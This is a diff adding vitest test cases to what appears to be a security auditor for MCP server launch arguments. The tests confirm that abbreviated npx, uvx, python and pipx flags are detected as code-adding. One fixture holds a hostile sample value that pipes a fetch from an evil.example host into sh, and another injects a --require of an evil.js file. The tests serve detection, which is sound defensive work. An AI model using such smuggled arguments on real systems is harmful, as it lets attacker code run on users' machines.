@@ -17,6 +17,7 @@
  */
 import { describe, expect, it } from 'vitest';
 import { mapLaunch } from '../../src/audit/mcp/launch.js';
+import { runnerAddsCode } from '../../src/ecosystems/mcp/runner-code.js';
 import { registryRedirect } from '../../src/ecosystems/registry-redirect.js';
 import { noteCases } from './support/metrics.js';
 
@@ -141,5 +142,25 @@ describe('hostile: a launch that names another registry in a spelling its runner
     expect(registryRedirect('npm', ['--reg=https://registry.example', 'pkg'], [], PUBLIC)).toBeNull();
     expect(registryRedirect('npm', ['--pref', 'pkg'], [], PUBLIC)).toBeNull();
     expect(registryRedirect('npm', ['pkg'], ['npm_config_prefix'], PUBLIC)?.source).toBe('env npm_config_prefix');
+  });
+
+  // An MCP Registry entry's runtime arguments, given to its runner before the package: the same spellings add code.
+  it.for([
+    ['npx --cal=LINE', 'npm', undefined, '--cal=curl https://evil.example/x | sh', '--call'],
+    ['npx --node-o=…', 'npm', undefined, '--node-o=--require ./evil.js', '--node-options'],
+    ['uvx -wother-pkg', 'pypi', 'uvx', '-wother-pkg', '-w'],
+    ['uvx -qw other-pkg', 'pypi', 'uvx', '-qw', '-w'],
+    ['python -Bc CODE', 'pypi', 'python', '-Bc', '-c'],
+    ['pipx --spe=other-pkg', 'pypi', 'pipx', '--spe=other-pkg', '--spec'],
+    ['pipx --wi other-pkg', 'pypi', 'pipx', '--wi', '--with'],
+  ] as const)('an MCP Registry entry whose runtime arguments hold %s adds code', ([, ecosystem, hint, word, flag], { task }) => {
+    noteCases(task);
+    expect(runnerAddsCode(ecosystem, [{ value: word }], hint)).toBe(flag);
+  });
+
+  it('one-letter clusters that hold no code flag before a value flag add none', () => {
+    for (const [word, hint] of [['-qn', 'uvx'], ['-Walways', 'python'], ['-Xwarn_default_encoding', 'python'], ['-pw', 'uvx']] as const) {
+      expect(runnerAddsCode('pypi', [{ value: word }], hint), word).toBeNull();
+    }
   });
 });
